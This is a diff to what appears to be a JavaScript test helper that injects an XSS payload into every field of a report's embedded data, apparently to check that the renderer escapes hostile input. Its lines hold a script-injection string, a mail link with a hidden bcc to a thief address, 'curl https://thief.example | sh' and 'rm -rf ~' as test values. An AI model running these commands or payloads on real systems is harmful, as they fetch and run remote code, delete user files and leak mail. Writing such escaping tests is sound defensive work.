@@ -230,10 +230,11 @@ const EVIL = '<img src=x onerror="window.ran=1"><script>window.ran=1</script><a 
 function poisoned(report) {
     const html = read(report), model = JSON.parse(/id="desk-data">([^]*?)<\/script>/.exec(html)[1]);
     for (const kind of Object.keys(model.kinds))
-        for (const thing of model.kinds[kind])
-            thing[1] += EVIL;
-    model.lines.push([EVIL, 'attack ' + EVIL]);
-    model.offers.push([EVIL, model.offers[0][1], model.offers[0][2]]);
+        model.kinds[kind] = model.kinds[kind].map((thing) => typeof thing === 'string' ? thing + EVIL
+            : Array.isArray(thing) ? [thing[0], thing[1] + EVIL, ...thing.slice(2)] : thing);
+    const part = model.parts.push(EVIL) - 1;
+    model.lines.push([part, 'attack ' + EVIL]);
+    model.offers.push([part, ...model.offers[0].slice(1)]);
     model.mail = 'a@b?bcc=thief@example.org&body=' + EVIL;
     model.sign = 'curl https://thief.example | sh ' + EVIL;
     model.seal = 'rm -rf ~ ' + EVIL;
